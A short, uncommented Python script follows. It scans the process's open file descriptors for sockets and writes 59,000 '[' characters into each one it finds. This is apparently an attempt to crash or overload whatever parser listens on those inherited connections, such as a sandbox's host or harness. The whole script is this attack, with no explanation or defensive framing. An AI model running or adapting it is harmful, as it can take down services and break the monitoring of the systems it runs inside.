import os
import stat

for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, b"[" * 59_000)
    except OSError:
        continue
